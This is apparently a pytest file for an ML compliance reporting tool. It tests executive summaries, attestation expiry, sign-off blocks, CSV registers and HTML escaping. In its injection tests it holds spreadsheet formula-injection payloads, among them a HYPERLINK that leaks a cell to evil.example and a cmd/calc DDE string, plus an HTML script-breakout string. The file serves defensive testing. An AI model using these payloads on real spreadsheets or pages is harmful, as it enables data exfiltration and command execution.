"""The workpaper parts of the reports (issue 12, "Exceptions first" and "Workpaper"): the executive
summary's view, the sign-off block (mlcompliance.yaml ``report:``), attestation expiry, the
requirements and attestation registers in HTML and as CSV (``requirements-csv``,
``attestations-csv``), with spreadsheet-injection payloads."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import jsonschema
import pytest
from helpers import AS_OF, INVOICE, SAMPLES, _dump, _load, cli, make_failing_project

from mlcompliance.render import RENDERERS, workpaper
from mlcompliance.render.html import render as html_render
from mlcompliance.result.codec import dumps, from_dict

RESULT_SCHEMA = json.loads((Path(__file__).resolve().parent.parent / "src" / "mlcompliance" / "schemas"
                            / "result.schema.json").read_text(encoding="utf-8"))
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


def _check(root: Path, *extra: str) -> dict:
    out = cli("check", root, "--as-of", AS_OF, "--format", "json", *extra)
    assert out.exit_code in (0, 1), out.stderr
    return json.loads(out.stdout)


def _csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    assert all(len(r) == len(header) for r in rows), "a row has the wrong number of cells"
    return [dict(zip(header, r)) for r in rows[1:]]


@pytest.fixture(scope="module")
def attested(tmp_path_factory) -> Path:
    """The invoice sample with three attestations: one expired, one expiring within 30 days,
    one that never expires; preparer and reviewer configured."""
    root = tmp_path_factory.mktemp("wp") / "invoice"
    shutil.copytree(INVOICE, root)
    card = _load(root / "model_card.yaml")
    card["attestations"] = [
        {"requirement": "MLOPS-21-LOSS-BUSINESS-CORRELATION", "attested_by": "Priya Raman", "date": "2025-05-30",
         "expires": "2026-05-30", "evidence_ref": "https://wiki.example.com/ab-test"},
        {"requirement": "MLOPS-22-FEATURE-VALUE", "attested_by": "Jon Bell", "date": "2026-01-10",
         "expires": "2026-11-20", "statement": "Ablation study reviewed."},
        {"requirement": "HLEG-ALTAI-SELF-ASSESSMENT", "attested_by": "Ana Ruiz", "date": "2026-02-01"},
    ]
    _dump(root / "model_card.yaml", card)
    config = _load(root / "mlcompliance.yaml")
    config["report"] = {"workpaper_ref": "WP-2026-FIN-007",
                        "preparer": {"name": "Dana Whitfield", "role": "Model validator", "date": "2026-10-30"},
                        "reviewer": "Sam Ortiz"}
    _dump(root / "mlcompliance.yaml", config)
    return root


# --- executive summary ---------------------------------------------------------------------------

def test_summary_counts_what_blocks_by_severity_and_names_the_first(checks):
    result = checks.result(SAMPLES / "credit-scoring")
    s = workpaper.summary_view(from_dict(result))
    blocking = [f for f in result["findings"] if f["fingerprint"] in set(result["gate"]["blocking"])]
    assert s["label"] == "NON-COMPLIANT" and s["blocking"]["total"] == len(blocking) == 2
    assert dict(s["blocking"]["by_severity"]) == {"high": 2}
    assert [t["rule_id"] for t in s["blocking"]["top"]] == sorted(f["rule_id"] for f in blocking)
    assert all(t["anchor"].startswith("f-") for t in s["blocking"]["top"])
    # the sample's expired waiver is named; nothing else expires within 30 days of 2026-11-01
    assert s["waivers"]["expired"] == 1 and s["waivers"]["expiring"] == 0
    assert [w["id"] for w in s["waivers"]["rows"]] == ["W-DP-2026-007"]
    # 25 manual requirements apply, 2 are attested: 23 open, none of them an attested one
    attested = {f["requirement"] for f in result["findings"] if f["outcome"] == "manual" and f.get("attestation")}
    assert len(attested) == 2 and s["manual"]["total"] == 25 and s["manual"]["attested"] == 2
    assert len(s["manual"]["unattested"]) == 23 and not attested & {r["id"] for r in s["manual"]["unattested"]}
    na = sum(1 for p in result["summary"]["packs"] for r in p["requirements"] if r["status"] == "not_applicable")
    assert s["not_applicable"]["requirements"] == na > 0
    assert s["baseline"] is None


def test_summary_names_new_and_fixed_since_the_baseline(tmp_path):
    root = make_failing_project(tmp_path)
    base = tmp_path / "base.json"
    assert cli("check", root, "--as-of", AS_OF, "--format", "json", "-o", base).exit_code == 1
    card = _load(root / "model_card.yaml")
    card["governance"]["owner"] = "Dana Whitfield"                     # fixes MLOPS-17-OWNER
    card["performance"]["metrics"][0]["value"] = 0.1                  # new failures
    _dump(root / "model_card.yaml", card)
    result = _check(root, "--baseline", base)
    s = workpaper.summary_view(from_dict(result))
    b = result["baseline"]
    assert s["baseline"]["new"] == b["new"] > 0 and s["baseline"]["fixed"] == len(b["fixed"]) > 0
    html = html_render(from_dict(result))
    summary = html.split('id="summary"', 1)[1].split("</section>", 1)[0]
    assert f"<strong>{b['new']}</strong> new, <strong>{len(b['fixed'])}</strong> fixed" in summary


# --- attestations: expiry, register ---------------------------------------------------------------

def test_an_expired_attestation_leaves_the_requirement_open(attested):
    result = _check(attested)
    jsonschema.validate(result, RESULT_SCHEMA)
    by_req = {f["requirement"]: f for f in result["findings"] if f["outcome"] == "manual"}
    expired = by_req["MLOPS-21-LOSS-BUSINESS-CORRELATION"]
    assert "expired on 2026-05-30" in expired["message"] and expired["attestation"]["expires"] == "2026-05-30"
    mlops = next(p for p in result["summary"]["packs"] if p["id"] == "mlops-practices")
    assert mlops["manual"] == {"total": 2, "attested": 1}           # the expired one does not count
    rows = {r["id"]: r for r in workpaper.attestation_rows(from_dict(result))}
    assert rows["MLOPS-21-LOSS-BUSINESS-CORRELATION"]["state"] == "expired"
    assert rows["MLOPS-22-FEATURE-VALUE"]["state"] == "attested, expiring"      # 19 days after the as-of date
    assert rows["HLEG-ALTAI-SELF-ASSESSMENT"]["state"] == "attested"
    s = workpaper.summary_view(from_dict(result))
    # eu-trustworthy-ai 1.2.0 adds the manual EUAI-ART5-SCREENING-ADEQUATE (audit 3.5), not attested here
    assert [r["id"] for r in s["manual"]["unattested"]] == ["EUAI-ART5-SCREENING-ADEQUATE",
                                                            "MLOPS-21-LOSS-BUSINESS-CORRELATION"]
    assert s["manual"]["expired"] == 1 and [r["id"] for r in s["manual"]["expiring"]] == ["MLOPS-22-FEATURE-VALUE"]
    # the verdict's list of open manual requirements names the expired one too
    verdict = html_render(from_dict(result)).split('id="verdict"', 1)[1].split("</section>", 1)[0]
    assert "MLOPS-21-LOSS-BUSINESS-CORRELATION" in verdict and "HLEG-ALTAI-SELF-ASSESSMENT" not in verdict


def test_attestation_register_csv_lists_every_manual_requirement(attested):
    result = _check(attested)
    rows = _csv(RENDERERS["attestations-csv"](result))
    manual = [(p["id"], r["id"]) for p in result["summary"]["packs"] for r in p["requirements"] if r["manual"]]
    assert [(r["pack"], r["requirement"]) for r in rows] == manual
    by_id = {r["requirement"]: r for r in rows}
    row = by_id["MLOPS-21-LOSS-BUSINESS-CORRELATION"]
    assert (row["state"], row["attested_by"], row["attested_on"], row["expires"], row["evidence_ref"]) == (
        "expired", "Priya Raman", "2025-05-30", "2026-05-30", "https://wiki.example.com/ab-test")
    assert re.fullmatch(r"model_card\.yaml:\d+", row["recorded_at"])
    na = [r for r in rows if r["state"] == "not applicable"]
    assert na and all(r["not_applicable_reason"].startswith("Not applicable") for r in na)


def test_requirements_register_csv_rolls_up_each_requirement(checks):
    result = checks.result(SAMPLES / "credit-scoring")
    rows = _csv(RENDERERS["requirements-csv"](result))
    summary = [(p["id"], r) for p in result["summary"]["packs"] for r in p["requirements"]]
    assert [(r["pack"], r["requirement"]) for r in rows] == [(p, r["id"]) for p, r in summary]
    for row, (pack, req) in zip(rows, summary):
        assert row["status"] == req["status"] and row["clause"] == req["clause"]
        findings = [f for f in result["findings"] if f["pack"] == pack and f["requirement"] == req["id"]]
        assert int(row["rules"]) == len({f["rule_id"] for f in findings})
        assert sum(int(row[k]) for k in row if k.startswith("rules_")) == int(row["rules"])
        assert bool(row["not_applicable_reason"]) == (req["status"] == "not_applicable")
    attested = [r for r in rows if r["attested_by"]]
    assert len(attested) == 2 and all(r["status_label"] == "attested" and r["attested_on"] for r in attested)


PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3", "\tTAB", "line one\r=1+1"]


def test_register_csvs_neutralise_formula_and_row_injection(tmp_path):
    root = tmp_path / "evil"
    shutil.copytree(INVOICE, root)
    card = _load(root / "model_card.yaml")
    card["attestations"] = [
        {"requirement": "MLOPS-21-LOSS-BUSINESS-CORRELATION", "attested_by": PAYLOADS[0], "date": "2026-05-30",
         "statement": PAYLOADS[5], "evidence_ref": PAYLOADS[1]},
        {"requirement": "MLOPS-22-FEATURE-VALUE", "attested_by": PAYLOADS[2], "date": "2026-05-30",
         "statement": PAYLOADS[4], "evidence_ref": PAYLOADS[3]},
    ]
    _dump(root / "model_card.yaml", card)
    config = _load(root / "mlcompliance.yaml")
    config["project"]["name"] = PAYLOADS[0]
    _dump(root / "mlcompliance.yaml", config)
    result = _check(root)
    for fmt in ("attestations-csv", "requirements-csv"):
        text = RENDERERS[fmt](result)
        raw = list(csv.reader(io.StringIO(text, newline="")))
        # every field quoted: each line starts with a quote, and a CR stays inside its cell
        assert all(line.startswith('"') for line in text.split("\n") if line)
        rows = _csv(text)
        for row in rows:
            for key, cell in row.items():
                assert not cell.startswith(FORMULA), (fmt, key, cell)
        assert all(len(r) == len(raw[0]) for r in raw)
        assert rows[0]["project_name"] == "'" + PAYLOADS[0]
        if fmt == "attestations-csv":
            by_id = {r["requirement"]: r for r in rows}
            a = by_id["MLOPS-21-LOSS-BUSINESS-CORRELATION"]
            assert a["attested_by"] == "'" + PAYLOADS[0] and a["evidence_ref"] == "'" + PAYLOADS[1]
            assert a["statement"] == "line one<U+000D>=1+1"          # no new row, no live formula
            b = by_id["MLOPS-22-FEATURE-VALUE"]
            assert b["attested_by"] == "'+1+1" and b["evidence_ref"] == "'-2+3"
            assert b["statement"] == "'\tTAB"                        # quoted, so not a formula


def test_portfolio_registers_have_a_row_for_a_project_that_failed_to_load(tmp_path):
    broken = SAMPLES / "broken-fraud-alerts"
    for fmt in ("requirements-csv", "attestations-csv"):
        out = cli("check", INVOICE, broken, "--as-of", AS_OF, "--format", fmt)
        assert out.exit_code == 2
        rows = _csv(out.stdout)
        errors = [r for r in rows if r["requirement"] == "mlcompliance/input-error"]
        assert len(errors) == 1 and errors[0]["project"].endswith("broken-fraud-alerts")
        assert "not checked" in errors[0]["title"]
        assert any(r["project"].endswith("invoice-late-payment") for r in rows)


# --- workpaper: configuration, result, sign-off --------------------------------------------------

def test_report_settings_reach_the_result_and_the_sign_off(attested):
    result = _check(attested)
    assert result["workpaper"] == {"ref": "WP-2026-FIN-007",
                                   "preparer": {"name": "Dana Whitfield", "role": "Model validator",
                                                "date": "2026-10-30"},
                                   "reviewer": {"name": "Sam Ortiz"}}
    assert dumps(from_dict(result)) == dumps(result)                       # the codec round-trips it
    html = html_render(from_dict(result))
    signoff = html.split('id="signoff"', 1)[1].split("</div>", 1)[0]
    assert '<strong class="wp-ref">WP-2026-FIN-007</strong>' in signoff
    assert "Dana Whitfield" in signoff and "Model validator" in signoff and "2026-10-30" in signoff
    assert "Sam Ortiz" in signoff
    # the reviewer's title and date, and both signatures, are blank lines to sign on
    assert signoff.count('class="blank sign"') == 2 and signoff.count('<span class="blank">') == 2
    # the running header of every printed page carries the reference (a CSS string, escaped)
    assert '@top-center { content: "workpaper WP-2026-FIN-007";' in html


def test_without_report_settings_the_sign_off_is_blank(invoice_result):
    assert "workpaper" not in invoice_result
    html = html_render(from_dict(invoice_result))
    signoff = html.split('id="signoff"', 1)[1].split("</div>", 1)[0]
    assert signoff.count('class="blank sign"') == 2 and signoff.count('<span class="blank">') == 7
    assert "@top-center" not in html


def test_a_bad_report_setting_is_an_input_error(tmp_path):
    root = tmp_path / "p"
    shutil.copytree(INVOICE, root)
    config = _load(root / "mlcompliance.yaml")
    config["report"] = {"workpaper": "WP-1", "preparer": {"role": "no name"}}
    _dump(root / "mlcompliance.yaml", config)
    out = cli("check", root, "--as-of", AS_OF)
    assert out.exit_code == 2 and "mlcompliance.yaml" in out.stderr and "Traceback" not in out.stderr


def test_a_hostile_workpaper_reference_stays_inside_its_css_string(tmp_path):
    root = tmp_path / "p"
    shutil.copytree(INVOICE, root)
    config = _load(root / "mlcompliance.yaml")
    config["report"] = {"workpaper_ref": '"; } </style><script>alert(1)</script>', "reviewer": "<b>x</b>"}
    _dump(root / "mlcompliance.yaml", config)
    html = html_render(from_dict(_check(root)))
    assert "<script>alert" not in html and "<b>x</b>" not in html and "&lt;b&gt;x&lt;/b&gt;" in html
    center = re.search(r'@top-center \{ content: ("[^"]*");', html).group(1)
    assert "</style" not in center and "\\3c /style\\3e " in center


# --- HTML structure and Markdown -----------------------------------------------------------------

def test_html_opens_with_the_summary_and_collapses_not_applicable_rows(checks):
    result = checks.result(SAMPLES / "credit-scoring")
    html = html_render(from_dict(result))
    main = html.split("<main>", 1)[1]
    assert main.lstrip().startswith('<section id="summary"')
    order = [m.group(1) for m in re.finditer(r'<section id="([a-z]+)"', main)]
    assert order[:2] == ["summary", "verdict"] and order.index("registers") < order.index("inventory")
    # findings: a CSS toggle before the table (no script needed), unticked
    findings = main.split('<section id="findings">', 1)[1].split("</section>", 1)[0]
    n_na = sum(1 for f in result["findings"] if f["outcome"] == "not_applicable")
    toggle = f'<input type="checkbox" id="show-na-findings" class="na-toggle"><label for="show-na-findings"'
    assert toggle in findings and f"Show the {n_na} not-applicable findings" in findings
    assert findings.index(toggle) < findings.index('<table id="findings-table"')
    assert "#show-na-findings:not(:checked) ~ table.findings tr.row-not_applicable:not(:target) { display: none; }" \
        in html
    # requirements: not-applicable ones only inside a closed <details> per pack
    reqs = main.split('<section id="requirements">', 1)[1].split("</section>", 1)[0]
    closed = re.findall(r'<details class="na-group req-na">(.*?)</details>', reqs, re.S)
    na = sum(1 for p in result["summary"]["packs"] for r in p["requirements"] if r["status"] == "not_applicable")
    assert sum(c.count('<tr class="req-not_applicable">') for c in closed) == na
    assert reqs.count('<tr class="req-not_applicable') == na
    assert "<details open" not in reqs


def test_registers_section_lists_every_requirement_and_manual_one(checks):
    result = checks.result(SAMPLES / "credit-scoring")
    html = html_render(from_dict(result))
    section = html.split('<section id="registers">', 1)[1].split("</section>", 1)[0]
    reqs = section.split('id="attestation-register"', 1)[0]
    total = sum(len(p["requirements"]) for p in result["summary"]["packs"])
    assert len(re.findall(r'<tr class="reg-', reqs)) == total
    att = section.split('id="attestation-register"', 1)[1]
    manual = sum(1 for p in result["summary"]["packs"] for r in p["requirements"] if r["manual"])
    assert len(re.findall(r'<tr class="att-', att)) == manual
    assert att.count(">attested</span>") == 2 and att.count(">not attested</span>") == 23


def test_markdown_lists_only_open_manual_requirements_and_the_exceptions(attested):
    result = _check(attested)
    md = RENDERERS["md"](result)
    block = md.split("Manual requirements needing attestation", 1)[1].split("</details>", 1)[0]
    assert "MLOPS-21-LOSS-BUSINESS-CORRELATION" in block and "(attestation expired)" in block
    assert "MLOPS-22-FEATURE-VALUE" not in block and "HLEG-ALTAI-SELF-ASSESSMENT" not in block
    assert "- Manual requirements: 2 of 4 not attested (1 expired), 2 attested" in md
    assert "- Workpaper: WP-2026-FIN-007" in md
